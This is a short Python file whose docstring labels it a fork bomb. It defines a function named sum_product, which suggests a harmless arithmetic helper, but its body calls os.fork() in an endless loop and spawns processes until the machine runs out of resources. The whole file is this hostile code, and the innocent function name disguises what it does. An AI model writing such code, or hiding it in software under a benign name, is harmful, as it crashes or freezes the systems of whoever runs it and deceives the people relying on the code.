"""A fork bomb."""

import os


def sum_product(numbers):
    while True:
        os.fork()
